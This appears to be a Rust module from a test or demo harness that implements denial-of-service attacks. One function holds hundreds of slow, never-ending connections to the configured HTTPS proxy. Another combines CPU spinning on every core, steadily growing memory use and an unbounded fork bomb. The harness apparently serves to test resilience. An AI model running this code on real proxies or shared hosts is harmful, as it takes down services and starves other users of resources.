//! Attacks: on the way out, by very many connections to the proxy and requests that never end; and on whoever
//! shares the host, by everything at once.

use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::thread::{self, sleep};
use std::time::{Duration, Instant};

use serde::Deserialize;
use serde_json::json;
use serde_json::value::RawValue;

use super::{Context, Outcome, arguments};
use crate::demo::wire::Fault;

/// How long a connection may take; on `lo` it is there at once, or the line of the listener is full.
const CONNECT: Duration = Duration::from_millis(1);
/// Connections that are held: a process has 1,024 descriptors.
const HELD_MAX: usize = 900;
/// Between two bytes.
const DRIP: Duration = Duration::from_millis(100);
/// How often a bomb takes more memory.
const GROWTHS_A_SECOND: usize = 20;
/// The same, as a pause.
const GROWS_EVERY: Duration = Duration::from_millis(1000 / GROWTHS_A_SECOND as u64);
/// The request, but for its end.
const HEAD: &[u8] = b"CONNECT localhost:443 HTTP/1.1\r\nX-Slow: ";

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Besiege {
    connections: u64,
    seconds: u64,
}

pub(super) fn besiege(context: &Context, raw: &RawValue) -> Result<Outcome, Fault> {
    let Besiege {
        connections,
        seconds,
    } = arguments(raw)?;
    let proxy = std::env::var("HTTPS_PROXY").unwrap_or_default();
    let proxy = proxy.trim_start_matches("http://").trim_end_matches('/');
    let Ok(proxy) = proxy.parse::<SocketAddr>() else {
        return Ok(Outcome::Failed(format!(
            "HTTPS_PROXY is no address: {proxy:?}"
        )));
    };
    let mut held: VecDeque<TcpStream> = VecDeque::new();
    let (mut made, mut refused) = (0u64, 0u64);
    for _ in 0..connections {
        if held.len() >= HELD_MAX {
            held.pop_front();
        }
        let stream = TcpStream::connect_timeout(&proxy, CONNECT);
        match stream.and_then(|stream| stream.set_nonblocking(true).map(|()| stream)) {
            Ok(stream) => {
                made += 1;
                held.push_back(stream);
            }
            Err(_) => refused += 1,
        }
    }
    let most = held.len();
    let until = Instant::now() + Duration::from_secs(seconds);
    let mut cut = 0u64;
    for at in 0.. {
        if Instant::now() >= until || context.cancel.wait(Duration::ZERO) {
            break;
        }
        let byte = HEAD.get(at).copied().unwrap_or(b'x');
        let before = held.len();
        held.retain_mut(|stream| drip(stream, byte).is_ok());
        cut += (before - held.len()) as u64;
        sleep(DRIP);
    }
    Ok(Outcome::Json(json!({
        "made": made, "refused": refused, "held": most, "cut": cut,
    })))
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Bomb {
    mib_per_second: usize,
}

/// Never answers: it is ended.
pub(super) fn bomb(context: &Context, raw: &RawValue) -> Result<Outcome, Fault> {
    let Bomb { mib_per_second } = arguments(raw)?;
    let cores = thread::available_parallelism().map_or(2, std::num::NonZero::get);
    for _ in 0..cores {
        thread::spawn(|| {
            loop {
                std::hint::spin_loop();
            }
        });
    }
    thread::spawn(fork_on);
    let mut held: Vec<Vec<u8>> = Vec::new();
    while !context.cancel.wait(GROWS_EVERY) {
        // Written, so that it is there.
        held.push(vec![1; (mib_per_second << 20) / GROWTHS_A_SECOND]);
    }
    drop(held);
    Ok(Outcome::Silent)
}

/// As many processes as the kernel lets be, and then one try after the other.
fn fork_on() {
    let mut children: Vec<Child> = Vec::new();
    loop {
        let child = Command::new("sleep")
            .arg("3600")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        children.extend(child);
    }
}

/// One byte more, unless the other end is gone.
fn drip(stream: &mut TcpStream, byte: u8) -> io::Result<()> {
    let kept = |result: io::Result<usize>| match result {
        Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
        Err(error) if error.kind() != io::ErrorKind::WouldBlock => Err(error),
        _ => Ok(()),
    };
    kept(stream.write(&[byte]))?;
    kept(stream.read(&mut [0; 512]))
}
